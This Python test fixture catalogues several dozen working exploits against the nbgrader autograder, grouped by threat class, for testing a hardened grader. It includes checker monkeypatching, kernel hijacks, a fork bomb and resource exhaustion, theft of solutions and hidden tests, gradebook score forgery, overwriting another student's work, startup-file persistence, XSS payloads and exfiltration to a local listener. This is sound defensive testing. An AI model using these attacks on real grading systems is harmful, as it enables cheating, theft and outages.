"""Working exploits, by the classes of the threat model; `test_attacks.py` runs them against stock nbgrader and against ours.

The assignment is the small one, with a third question (`sample`, 4 points), and no exploit deserves a point for what it
attacks. `stock` says what it gains with stock nbgrader: ``points`` (more than it deserves), ``effect`` (it leaves a file with
its name in the folder EVIDENCE, or what `shown` names stands in the feedback page), ``ungraded`` (the submission has no
grade although its other answers are right), ``batch`` (others have none), or, where stock is not run, why.
"""

from dataclasses import dataclass
from textwrap import dedent

from tests.grading.small_course import DOUBLE_RIGHT, MEAN_RIGHT, answer, cell

SAMPLE_RIGHT = "def sample(size, rng):\n    return rng.poisson(3.0, size)"
SAMPLE_TEST = """\
import numpy as np
from acme_lib.teach.check import check_law, check_seeding, fresh_rng, hidden_checks

n = np.arange(60)
law = np.exp(-3.0) * np.cumprod(np.concatenate([[1.0], 3.0 / n[1:]]))
check_law(sample, {"size": 2000, "rng": fresh_rng()}, law, size=2000)
check_seeding(sample, {"size": 50, "rng": fresh_rng()})
### BEGIN HIDDEN TESTS
with hidden_checks() as rng:
    check_law(sample, {"size": 3000, "rng": rng}, law, size=3000)
### END HIDDEN TESTS"""
EXTRA = (answer("sample", SAMPLE_RIGHT), cell("code", SAMPLE_TEST, "sample_test", points=4))
RIGHT = {"double": DOUBLE_RIGHT, "mean": MEAN_RIGHT, "sample": SAMPLE_RIGHT}
TESTS = ("double_test", "mean_test", "sample_test")

NOTHING = "the answer is not plain data; stock keeps it in its own process, where there is nothing to gain"
MACHINE = "not run against stock: it would take the machine down"


@dataclass(frozen=True)
class Attack:
    """An exploit: the answers that it hands in, and what it may deserve."""

    name: str
    kind: int
    answers: dict
    stock: str = "points"
    deserves: dict | None = None
    change: object = None  # of the notebook as JSON data
    files: dict | None = None  # beside the notebook: text, or ("link", target)
    shown: str = ""


ATTACKS = []


def attack(kind, name, *, stock="points", change=None, files=None, shown="", **answers):
    """Add an exploit; an answer that is not given stays empty, and deserves nothing."""
    answers = {question: dedent(text).strip("\n") for question, text in answers.items()}
    deserves = {f"{q}_test": 4 for q, text in answers.items() if text == RIGHT.get(q)}
    ATTACKS.append(Attack(name, kind, answers, stock, deserves, change, files, shown))


ALL = {
    "double": "def double(x):\n    return None",
    "mean": "def mean(v):\n    return None",
    "sample": "def sample(n, rng):\n    return None",
}


def first(code, **others):
    """Return answers that run `code` at the start of the first cell and answer nothing."""
    return {**ALL, "double": f"{dedent(code).strip()}\n{ALL['double']}", **others}


# 1 comparison ---------------------------------------------------------------------------------------------------------

LIAR = """\
class Liar({base}):
    __hash__ = None
    def __eq__(self, other): return True
    def __lt__(self, other): return True
    def __sub__(self, other): return self
    def __abs__(self): return self
def mean(v): return {make}
"""
attack(1, "float that equals everything", mean=LIAR.format(base="float", make="Liar(0)"))
attack(1, "object that equals everything", mean=LIAR.format(base="object", make="Liar()"))
attack(1, "str that equals everything", mean=LIAR.format(base="str", make="Liar()"))
attack(1, "array subclass", mean="import numpy as np\n" + LIAR.format(base="np.ndarray", make="np.zeros(1).view(Liar)"))
attack(1, "not a number", stock="", mean="def mean(v): return float('nan')")

# 2 shadowing -----------------------------------------------------------------------------------------------------------

attack(2, "abs shadowed", mean="abs = lambda x: 0.0\ndef mean(v): return 2.0")
attack(2, "abs of builtins", mean="import builtins\nbuiltins.abs = lambda x: 0.0\ndef mean(v): return 2.0")
attack(
    2,
    "the check replaced",
    **first("import acme_lib.teach.check as c\nc.check_values = c.check_law = c.check_seeding = lambda *a, **k: None"),
)
attack(
    2, "the judge of the check replaced", **first("import acme_lib.teach.check as c\nc._check = lambda *a, **k: None")
)
attack(
    2,
    "the code of the comparison replaced",
    **first(
        "import acme_lib.teach.check as c\nc._compare.__code__ = (lambda a, b, c, d, e: None).__code__",
        double="import acme_lib.teach.check as c\nc._compare.__code__ = (lambda a, b, c, d, e: None).__code__\ndef double(x): return 0.0",
    ),
)
attack(
    2,
    "numpy's comparison replaced",
    double="import numpy as np\nnp.allclose = lambda *a, **k: True\ndef double(x): return 0.0",
)
attack(
    2,
    "a module of the same name",
    **first("""
    import sys, types, contextlib, numpy
    fake = types.ModuleType("acme_lib.teach.check")
    fake.check_values = fake.check_law = fake.check_seeding = lambda *a, **k: None
    fake.fresh_rng = numpy.random.default_rng
    fake.hidden_checks = lambda: contextlib.nullcontext(numpy.random.default_rng())
    sys.modules["acme_lib.teach.check"] = fake
    import acme_lib.teach
    acme_lib.teach.check = fake"""),
)

# 3 interpreter ---------------------------------------------------------------------------------------------------------

attack(
    3,
    "display hook with a text",
    double="def double(x):\n    get_ipython().displayhook('ok')\n    return 0",
    mean="def mean(v):\n    get_ipython().displayhook('ok')\n    return 0",
)
attack(3, "display hook with the points", double="def double(x):\n    get_ipython().displayhook(4.0)\n    return 0")
attack(
    3,
    "display hook with too many points",
    stock="ungraded",
    double="def double(x):\n    get_ipython().displayhook(400)\n    return 0",
    mean=MEAN_RIGHT,
)
attack(
    3,
    "syntax tree without the tests",
    **first("""
    import ast
    class Remove(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_With(self, node): return ast.Pass()
        def visit_Expr(self, node): return ast.Pass()
    get_ipython().ast_transformers.append(Remove())"""),
)
attack(3, "input transformer", **first("get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"))
attack(
    3,
    "the kernel's execution",
    **first("""
    async def do_execute(code, silent, *a, **k):
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    get_ipython().kernel.do_execute = do_execute"""),
)
attack(
    3,
    "the shell's execution",
    **first("""
    shell, original = get_ipython(), get_ipython().run_cell
    shell.run_cell = lambda *a, **k: original("pass")"""),
)
attack(
    3,
    "a message of the kernel",
    double="""
    def double(x):
        kernel = get_ipython().kernel
        content = {"data": {"text/plain": "4.0"}, "metadata": {}, "execution_count": 1}
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"))
        return 0""",
)
attack(
    3,
    "compile replaced",
    **first("""
    import builtins
    original = builtins.compile
    def compile(source, *a, **k):
        return original(source, *a, **k)
    get_ipython().compile.ast_parse = lambda source, *a, **k: original("pass", "x", "exec", 1024)"""),
)

# 4 exit ----------------------------------------------------------------------------------------------------------------

attack(4, "os._exit in a function", stock="ungraded", double="import os\ndef double(x): os._exit(0)", mean=MEAN_RIGHT)
attack(4, "os._exit in a cell", stock="ungraded", mean=MEAN_RIGHT, double="import os\nos._exit(0)")
attack(
    4,
    "segmentation fault",
    stock="ungraded",
    mean=MEAN_RIGHT,
    double="import ctypes\ndef double(x): ctypes.string_at(0)",
)
attack(
    4,
    "the parent killed",
    stock="batch",
    mean=MEAN_RIGHT,
    double="import os, signal\ndef double(x): os.kill(os.getppid(), signal.SIGKILL)",
)
attack(
    4,
    "a process left behind",
    stock="effect",
    mean=MEAN_RIGHT,
    double="""
    import subprocess
    subprocess.Popen(["sh", "-c", "sleep 1; touch 'EVIDENCE/a process left behind'"], start_new_session=True)
    def double(x): return 0""",
)
attack(
    4,
    "threads left behind",
    stock="",
    mean=MEAN_RIGHT,
    double="import threading, time\n[threading.Thread(target=time.sleep, args=(600,)).start() for _ in range(5)]\ndef double(x): return 0",
)

# 5 reading answers -----------------------------------------------------------------------------------------------------

attack(
    5,
    "hidden tests in In",
    mean="""
    import re
    def mean(v):
        return 2.0 if len(v) == 2 else float(re.search(r"- ([0-9.]+)\\)", In[-1])[1])""",
)
attack(
    5,
    "expected values in frames",
    double="""
    import sys
    def double(x):
        frame = sys._getframe()
        while "expected" not in frame.f_locals:
            frame = frame.f_back
        return float(frame.f_locals["expected"])""",
)
attack(
    5,
    "expected values in the heap",
    double="""
    import gc, types
    def double(x):
        for f in gc.get_objects():
            if isinstance(f, types.FunctionType) and f.__qualname__ == "check_values.<locals>.judge":
                cells = dict(zip(f.__code__.co_freevars, f.__closure__))
                return float(cells["expected"].cell_contents)""",
)
TAKE = """
import json, re
cells = json.load(open({path}))["cells"]
for c in cells:
    name = c["metadata"].get("nbgrader", {{}}).get("grade_id")
    if name in ("double", "mean", "sample"):
        source = "".join(c["source"])
        exec(source)
"""
attack(5, "the solutions", double=TAKE.format(path="'COURSE/solutions/ps1/p.ipynb'"), mean="pass", sample="pass")
attack(
    5,
    "another submission",
    double=TAKE.format(path="'COURSE/submitted/honest00/ps1/p.ipynb'"),
    mean="pass",
    sample="pass",
)
attack(
    5,
    "the solutions through proc",
    double="import os\n" + TAKE.format(path="f'/proc/{os.getppid()}/cwd/solutions/ps1/p.ipynb'"),
    mean="pass",
    sample="pass",
)
attack(
    5,
    "hidden tests in the gradebook",
    mean="""
    import sqlite3, re
    source = sqlite3.connect("COURSE/gradebook.db").execute("select source from source_cell where name = 'mean_test'").fetchone()[0]
    def mean(v):
        return 2.0 if len(v) == 2 else float(re.search(r"- ([0-9.]+)\\)", source)[1])""",
)

# 6 forging results -----------------------------------------------------------------------------------------------------

attack(
    6,
    "points in the gradebook",
    **first("""
    import sqlite3
    book = sqlite3.connect("COURSE/gradebook.db", timeout=30)
    book.execute("update grade set manual_score = 4 where cell_id in (select id from base_cell) and notebook_id in ("
        "select n.id from submitted_notebook n join submitted_assignment a on n.assignment_id = a.id "
        "where a.student_id = 'STUDENT')")
    book.commit()
    book.close()"""),
)
attack(
    6,
    "another student's submission destroyed",
    stock="effect",
    **first("""
    open("COURSE/submitted/zz_victim/ps1/p.ipynb", "w").write("{}")
    open("EVIDENCE/another student's submission destroyed", "w").close()"""),
)
attack(6, "printed markers", stock="", double="def double(x):\n    print('4.0', 'PASSED', '8/8')\n    return 0")
attack(
    6,
    "a pickle that runs code",
    stock="",
    double="class P:\n    def __reduce__(self): return (open, ('EVIDENCE/a pickle that runs code', 'w'))\ndef double(x): return P()",
)
attack(
    6,
    "a forged frame",
    stock="",
    double="import os\ndef double(x):\n    os.write(3, b'\\x10' + bytes(7) + b'x' * 16)\n    return 0",
)

# 7 the notebook --------------------------------------------------------------------------------------------------------


def tests_of(notebook):
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade_id") in TESTS]


def skip_tests(notebook):
    for c in tests_of(notebook):
        c["metadata"]["tags"] = ["skip-execution"]


def duplicate_test(notebook):
    notebook["cells"].append(dict(tests_of(notebook)[0], id="again"))


def retype_tests(notebook):
    for c in tests_of(notebook):
        c["cell_type"] = "markdown"
        c.pop("outputs", None)
        c.pop("execution_count", None)


def delete_tests(notebook):
    notebook["cells"] = [c for c in notebook["cells"] if c not in tests_of(notebook)]


def more_points(notebook):
    for c in tests_of(notebook):
        c["metadata"]["nbgrader"]["points"] = 1000
        c["source"] = "pass"


def reverse(notebook):
    notebook["cells"].reverse()


def other_kernel(notebook):
    notebook["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "sh"}


def script_in_words(notebook):
    for c in notebook["cells"]:
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "words":
            c["source"] = "Because <script>steal('EVIL-1')</script>"


def picture_in_words(notebook):
    for c in notebook["cells"]:
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "words":
            c["source"] = "Because ![x](attachment:x.svg) <img src='x' onerror='EVIL-2'>"
            c["attachments"] = {"x.svg": {"image/svg+xml": "PHN2Zy8+"}}


attack(7, "tests tagged skip-execution", change=skip_tests, **ALL)
attack(7, "a test cell twice", stock="batch", change=duplicate_test, **{**ALL, "mean": MEAN_RIGHT})
attack(7, "tests turned into text", stock="", change=retype_tests, **ALL)
attack(7, "tests deleted", stock="", change=delete_tests, **ALL)
attack(7, "a thousand points", stock="", change=more_points, **ALL)
attack(7, "cells in reverse", stock="", change=reverse, **ALL)
attack(7, "another kernel", stock="", change=other_kernel, **ALL)
attack(7, "a script in free text", stock="effect", change=script_in_words, shown="<script>steal('EVIL-1')", **ALL)
attack(
    7,
    "a picture that runs a script",
    stock="effect",
    change=picture_in_words,
    shown='onerror="EVIL-2"',
    **ALL,
)
attack(
    7,
    "a script in an output",
    stock="effect",
    shown="<script>steal('EVIL-3')</script>",
    **first("from IPython.display import HTML, display\ndisplay(HTML(\"<script>steal('EVIL-3')</script>\"))"),
)

# 8 environment ---------------------------------------------------------------------------------------------------------

FAKE_CHECK = """
import contextlib, random
check_values = check_law = check_seeding = lambda *a, **k: None
fresh_rng = random.Random
class R(random.Random):
    def uniform(self, a, b, size=None): return random.uniform(a, b)
hidden_checks = lambda: contextlib.nullcontext(R())
"""
attack(
    8,
    "a library of the same name handed in",
    files={"acme_lib/__init__.py": "", "acme_lib/teach/__init__.py": "", "acme_lib/teach/check.py": FAKE_CHECK},
    **ALL,
)
attack(
    8,
    "a start-up file for the next kernel",
    stock="effect",
    **first("""
    import os
    folder = os.path.expanduser("~/.ipython/profile_default/startup")
    os.makedirs(folder, exist_ok=True)
    open(folder + "/evil.py", "w").write("open('EVIDENCE/a start-up file for the next kernel', 'w').close()")"""),
)
attack(
    8, "a link to the solutions", stock="effect", files={"leak.txt": ("link", "COURSE/solutions/ps1/p.ipynb")}, **ALL
)
attack(8, "a changed library", stock=MACHINE, **first("import numpy\nopen(numpy.__file__, 'a').write('#')"))
attack(
    8,
    "a poisoned compile cache",
    stock=MACHINE,
    **first("import acme_lib.errors, os\nopen(acme_lib.errors.__cached__, 'wb').write(b'evil')"),
)

# 9 resources -----------------------------------------------------------------------------------------------------------

attack(9, "endless loop", stock="", mean=MEAN_RIGHT, double="def double(x):\n    while True: pass")
attack(
    9,
    "a loop that holds the interpreter",
    stock=MACHINE,
    mean=MEAN_RIGHT,
    double="import re\ndef double(x): return re.match(r'(a+)+$', 'a' * 40 + 'b')",
)
attack(
    9,
    "memory",
    stock=MACHINE,
    mean=MEAN_RIGHT,
    double="def double(x): return len(bytearray(10**11)) + len([0] * 10**10)",
)
attack(9, "fork bomb", stock=MACHINE, mean=MEAN_RIGHT, double="import os\ndef double(x):\n    while True: os.fork()")
attack(
    9,
    "disk",
    stock=MACHINE,
    mean=MEAN_RIGHT,
    double="def double(x):\n    for i in range(10**6):\n        open(f'/tmp/{i}', 'wb').write(bytes(2**24))",
)
attack(
    9,
    "output flood",
    stock="",
    mean=MEAN_RIGHT,
    double="def double(x):\n    for _ in range(10**5): print('x' * 100)\n    return 0",
)
attack(
    9,
    "an answer of a gigabyte",
    stock="",
    mean=MEAN_RIGHT,
    double="import numpy as np\ndef double(x): return np.zeros(10**8, dtype=np.int8)",
)

# 10 side channels ------------------------------------------------------------------------------------------------------

attack(
    10,
    "hidden values over the network",
    stock="effect",
    double="""
    import urllib.request
    def double(x):
        urllib.request.urlopen(f"http://127.0.0.1:PORT/hidden values over the network/{x}".replace(" ", "%20"), timeout=3)
        return 0""",
)
attack(10, "hidden tests in the feedback", stock="effect", shown="44.5", mean="def mean(v): return 2.0")
attack(
    10,
    "hidden values in the name of an error",
    stock="",
    double="def double(x):\n    if x == 3: return 6.0\n    raise type(f'X{x}', (Exception,), {})",
)

# 11 stochastic ---------------------------------------------------------------------------------------------------------

attack(
    11,
    "the generator made predictable",
    double="""
    import numpy as np
    original = np.random.default_rng
    np.random.default_rng = lambda *a: original(0)
    rng = original(0)
    TABLE = {3.0: 6.0} | {x: 2 * x for x in (float(rng.uniform(10, 99)) for _ in range(3))}
    def double(x): return TABLE.get(float(x))""",
)
attack(
    11,
    "answers by counting calls",
    double="""
    import numpy as np
    original = np.random.default_rng
    np.random.default_rng = lambda *a: original(0)
    rng = original(0)
    ANSWERS = iter([6.0, *(2 * float(rng.uniform(10, 99)) for _ in range(3))])
    def double(x): return next(ANSWERS)""",
)
attack(
    11,
    "the test of the law replaced",
    sample="""
    import acme_lib.teach.check as c
    c.compare_with_law = lambda *a, **k: type("C", (), {"p_value": 1.0, "log_likelihood": 0.0})
    def sample(size, rng): return rng.integers(0, 2, size)""",
)
attack(
    11,
    "the same sample each time",
    stock="",
    sample="def sample(size, rng):\n    import numpy as np\n    return np.random.default_rng(1).poisson(3.0, size)",
)
attack(
    11,
    "the mean in place of a sample",
    stock="",
    sample="def sample(size, rng):\n    import numpy as np\n    return np.full(size, 3)",
)

# 12 shortcuts ----------------------------------------------------------------------------------------------------------

attack(12, "a forbidden module", mean="import statistics\nmean = lambda v: statistics.mean(v)")
attack(
    12,
    "a forbidden function",
    mean="def mean(v):\n    s = sorted(v)\n    w = np.trapezoid([1.0, 1.0])\n    return w * sum(s) / len(s)",
)
attack(
    12,
    "the source of a forbidden module",
    mean="""
    import os, acme_lib
    source = open(os.path.join(os.path.dirname(acme_lib.__file__), "laws", "telegraph.py")).read()
    def mean(v): return sum(v) / len(v)""",
)
attack(
    12,
    "a forbidden module loaded by its path",
    mean="""
    import importlib.util, os, acme_lib
    path = os.path.join(os.path.dirname(acme_lib.__file__), "laws", "rates.py")
    spec = importlib.util.spec_from_file_location("laws_rates", path)
    spec.loader.exec_module(importlib.util.module_from_spec(spec))
    def mean(v): return sum(v) / len(v)""",
)
